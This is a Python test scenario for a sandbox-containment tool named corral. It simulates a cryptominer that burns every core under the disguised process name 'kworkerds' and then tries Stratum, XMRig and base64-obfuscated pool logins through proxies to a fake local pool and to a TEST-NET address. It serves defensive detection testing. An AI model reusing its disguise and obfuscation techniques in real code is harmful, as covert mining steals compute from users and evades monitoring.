"""mining: a cryptocurrency miner, as in the seed incident.

Attack: burns every CPU the sandbox has (a SHA-256 loop in one process per
core, named `kworkerds` as miners disguise themselves, no file or network
progress: the shape of a miner) for 7 s, then tries to reach a pool:
  - Stratum (`mining.subscribe`, `mining.authorize`) to the runner's fake
    pool through corral's HTTP proxy: the pool's name is allowed, so only
    the proxy's first-bytes check can refuse it;
  - an XMRig `login` through the SOCKS5 proxy;
  - the same Stratum wrapped in base64 lines (as miners obfuscate it to
    slip past inspection) through the proxy;
  - a direct connection to 192.0.2.1:3333 (TEST-NET-1).
Twin: a compiler-like build: the same CPU load from processes named
`objbuild` (a build tool corral does not know by name), writing object
files to the workspace as it goes (progress), for 7 s.

Safe: the pool is the runner's own server on 127.0.0.1; 192.0.2.1 is only
tried when the sandbox has nothing but loopback (no route); the burn ends by
itself after 7 s.

Contained: no pool accepted a login (every path refused), or corral ended
the run on a finding (e.g. `miner.*`: CPU-shaped mining, Stratum).
"""

import base64
import hashlib
import json
import os
import signal
import time

import corral_scenario as cs

BURN_SECONDS = 7.0


def cores():
    try:
        return max(1, len(os.sched_getaffinity(0)))
    except OSError:
        return os.cpu_count() or 1


def set_name(name):
    """The process's name (comm), as miners disguise themselves."""
    try:
        import ctypes
        ctypes.CDLL(None).prctl(15, name.encode(), 0, 0, 0)  # PR_SET_NAME
    except (OSError, AttributeError):
        pass


def burner(seconds, name, out_dir=None, index=0):
    """A child process named `name`: SHA-256 in a loop; with out_dir, an
    "object file" written every ~100 ms (a compiler's progress)."""
    pid = os.fork()
    if pid:
        return pid
    try:
        set_name(name)
        deadline = time.monotonic() + seconds
        block = b"corral-verify" * 64
        n = 0
        next_write = time.monotonic() + 0.1
        while time.monotonic() < deadline:
            for _ in range(2000):
                block = hashlib.sha256(block).digest() * 26
            if out_dir is not None and time.monotonic() >= next_write:
                n += 1
                path = os.path.join(out_dir, "unit%d_%d.o" % (index, n % 50))
                with open(path, "wb") as f:
                    f.write(block * 40)
                next_write = time.monotonic() + 0.1
    finally:
        os._exit(0)


def stop(pids):
    for pid in pids:
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    for pid in pids:
        try:
            os.waitpid(pid, 0)
        except OSError:
            pass


def stratum_session(sock, wrap=False):
    """Subscribe and authorize; returns the pool's answer (a breach)."""
    f = sock.makefile("rwb", buffering=0)
    calls = [
        {"id": 1, "method": "mining.subscribe", "params": ["cpuminer-opt/3.24.5"]},
        {"id": 2, "method": "mining.authorize", "params": ["corral-verify.worker1", "x"]},
    ]
    answers = []
    for call in calls:
        line = json.dumps(call).encode()
        if wrap:
            line = base64.b64encode(line)
        f.write(line + b"\n")
        answer = f.readline()
        if not answer:
            raise cs.Refused("the connection was closed before the pool answered", by="proxy")
        answers.append(answer.decode("utf-8", "replace").strip())
    return "pool answered: " + " | ".join(a[:80] for a in answers)


def attack():
    cs.begin()
    pids = [burner(BURN_SECONDS + 5, "kworkerds") for _ in range(cores())]
    cs.step("burn %d CPU(s) with a hash loop, no progress" % len(pids), "info",
            detail="%d burner processes" % len(pids))
    time.sleep(BURN_SECONDS)
    host, port = cs.target("pool")

    def stratum():
        s = cs.proxy_connect(host, port)
        try:
            return stratum_session(s)
        finally:
            s.close()

    def xmrig_login():
        s = cs.socks_connect(host, port)
        try:
            f = s.makefile("rwb", buffering=0)
            login = {"id": 1, "jsonrpc": "2.0", "method": "login",
                     "params": {"login": "4corralverify", "pass": "x", "agent": "XMRig/6.21.0"}}
            f.write(json.dumps(login).encode() + b"\n")
            answer = f.readline()
            if not answer:
                raise cs.Refused("the connection was closed before the pool answered", by="proxy")
            return "pool answered: " + answer.decode("utf-8", "replace").strip()[:120]
        finally:
            s.close()

    def wrapped():
        s = cs.proxy_connect(host, port)
        try:
            return stratum_session(s, wrap=True)
        finally:
            s.close()

    def direct():
        s = cs.direct_connect("192.0.2.1", 3333)
        s.close()
        return "connected"

    cs.attempt("Stratum login to %s:%d through the HTTP proxy" % (host, port), stratum)
    cs.attempt("XMRig login to %s:%d through the SOCKS5 proxy" % (host, port), xmrig_login)
    cs.attempt("base64-wrapped Stratum to %s:%d through the HTTP proxy" % (host, port), wrapped)
    cs.attempt("connect 192.0.2.1:3333 (a pool) directly", direct)
    stop(pids)
    cs.end()


def twin():
    cs.begin()
    out = os.path.join(os.getcwd(), "build-out")
    os.makedirs(out, exist_ok=True)
    t = time.time()
    pids = [burner(BURN_SECONDS, "objbuild", out, i) for i in range(cores())]
    for pid in pids:
        os.waitpid(pid, 0)
    objects = len(os.listdir(out))
    cs.step("compile-like load on %d CPU(s) for %.0f s, writing objects" % (len(pids), BURN_SECONDS),
            "done", t, detail="%d object files written" % objects)
    cs.end()


if __name__ == "__main__":
    attack() if cs.MODE == "attack" else twin()
